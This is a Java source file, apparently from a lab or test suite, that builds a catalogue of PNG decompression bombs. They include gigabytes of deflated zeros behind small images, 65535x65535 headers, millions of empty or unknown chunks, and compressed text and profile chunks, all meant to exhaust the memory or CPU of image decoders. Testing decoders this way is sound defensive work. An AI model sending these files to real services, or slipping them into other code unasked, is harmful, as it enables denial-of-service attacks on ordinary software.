package io.inceptionstreams.lab.bombs;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** PNGs. */
final class PngBombs {

    private static final String FORMAT = "png";
    private static final int GREY = 0;
    private static final int RGB = 2;
    private static final int PALETTE = 3;
    private static final int GREY_ALPHA = 4;
    private static final int RGB_ALPHA = 6;

    private PngBombs() {}

    static List<Bomb> all() {
        List<Bomb> all = new ArrayList<>();
        for (int[] type : new int[][] {
            {1, GREY},
            {8, GREY},
            {16, GREY},
            {8, RGB},
            {16, RGB},
            {1, PALETTE},
            {8, PALETTE},
            {8, GREY_ALPHA},
            {16, GREY_ALPHA},
            {8, RGB_ALPHA},
            {16, RGB_ALPHA}
        }) {
            for (int interlaced = 0; interlaced <= 1; interlaced++) {
                int passes = interlaced;
                String kind = "type " + type[1] + ", " + type[0] + " bits" + (passes == 1 ? ", interlaced" : "");
                for (int megapixels : new int[] {50, 12}) {
                    all.add(new Bomb(
                            FORMAT,
                            megapixels + " MP, " + kind,
                            () -> flat((int) Math.sqrt(megapixels * 1e6), type[0], type[1], passes)));
                }
            }
        }
        all.add(new Bomb(
                FORMAT,
                "one column of 50 million rows",
                () -> image(1, 50_000_000, 8, GREY, 0, deflated(100_000_000))));
        all.add(new Bomb(
                FORMAT, "one row of 50 million columns", () -> image(50_000_000, 1, 8, GREY, 0, deflated(50_000_001))));
        all.add(new Bomb(
                FORMAT, "500 MB of zeros behind 299x299", () -> image(299, 299, 8, GREY, 0, deflated(500_000_000))));
        all.add(new Bomb(
                FORMAT, "1 GB of zeros behind 299x299", () -> image(299, 299, 8, GREY, 0, deflated(1_000_000_000L))));
        all.add(new Bomb(
                FORMAT, "1 GB of zeros behind 50 MP", () -> image(7071, 7071, 8, GREY, 0, deflated(1_000_000_000L))));
        all.add(new Bomb(
                FORMAT, "65535x65535, 1 GB of zeros", () -> image(65535, 65535, 8, GREY, 0, deflated(1_000_000_000L))));
        all.add(new Bomb(FORMAT, "18 MB of noise", () -> image(2500, 2400, 8, RGB, 0, noise(18_000_000))));
        all.add(new Bomb(FORMAT, "compressed texts", () -> with(chunk("zTXt", text()), 250)));
        all.add(new Bomb(FORMAT, "compressed profile", () -> with(chunk("iCCP", text()), 1)));
        all.add(new Bomb(FORMAT, "a million empty chunks of data", () -> with(chunk("IDAT", new byte[0]), 1_500_000)));
        all.add(new Bomb(FORMAT, "a million transparencies", () -> with(chunk("tRNS", new byte[2]), 1_300_000)));
        all.add(new Bomb(FORMAT, "a million unknown chunks", () -> with(chunk("abCd", new byte[0]), 1_500_000)));
        return all;
    }

    private static byte[] text() {
        return new BitSink().text("bomb").bytes(0, 0).bytes(deflated(7_000_000)).toByteArray();
    }

    /** A small image with more chunks behind its header. */
    private static byte[] with(byte[] chunk, int times) {
        BitSink out = start(299, 299, 8, GREY, 0);
        for (int i = 0; i < times && out.size() < Bomb.MOST_BYTES - 10_000; i++) {
            out.bytes(chunk);
        }
        return out.bytes(chunk("IDAT", deflated(299 * 300)))
                .bytes(chunk("IEND", new byte[0]))
                .toByteArray();
    }

    private static byte[] flat(int side, int bits, int type, int interlaced) {
        int samples = type == RGB ? 3 : type == GREY_ALPHA ? 2 : type == RGB_ALPHA ? 4 : 1;
        // A little more than the rows take does no harm.
        return image(side, side, bits, type, interlaced, deflated((long) side * side * samples * bits / 8 + 9L * side));
    }

    private static byte[] image(int width, int height, int bits, int type, int interlaced, byte[] data) {
        BitSink out = start(width, height, bits, type, interlaced);
        if (type == PALETTE) {
            out.bytes(chunk("PLTE", new byte[6])).bytes(chunk("tRNS", new byte[2]));
        }
        return out.bytes(chunk("IDAT", data)).bytes(chunk("IEND", new byte[0])).toByteArray();
    }

    private static BitSink start(int width, int height, int bits, int type, int interlaced) {
        byte[] header = new BitSink()
                .u32(width)
                .u32(height)
                .bytes(bits, type, 0, 0, interlaced)
                .toByteArray();
        return new BitSink().bytes(0x89).text("PNG\r\n").bytes(0x1a, '\n').bytes(chunk("IHDR", header));
    }

    private static byte[] chunk(String type, byte[] content) {
        CRC32 checksum = new CRC32();
        checksum.update(type.getBytes(ISO_8859_1));
        checksum.update(content);
        return new BitSink()
                .u32(content.length)
                .text(type)
                .bytes(content)
                .u32(checksum.getValue())
                .toByteArray();
    }

    private static byte[] noise(int length) {
        byte[] noise = new byte[length + 2400];
        new Random(1).nextBytes(noise);
        for (int row = 0; row < 2400; row++) {
            noise[row * 7501] = 4; // each row is filtered in the costliest way
        }
        Deflater deflater = new Deflater(1);
        deflater.setInput(noise);
        deflater.finish();
        return all(deflater);
    }

    /** Zeros. */
    private static byte[] deflated(long zeros) {
        Deflater deflater = new Deflater(Deflater.BEST_SPEED);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] piece = new byte[1 << 20];
        byte[] buffer = new byte[1 << 16];
        for (long left = zeros; left > 0; left -= piece.length) {
            deflater.setInput(piece, 0, (int) Math.min(left, piece.length));
            for (int n = deflater.deflate(buffer); n > 0; n = deflater.deflate(buffer)) {
                out.write(buffer, 0, n);
            }
        }
        deflater.finish();
        out.writeBytes(all(deflater));
        return out.toByteArray();
    }

    private static byte[] all(Deflater deflater) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[1 << 16];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }
}
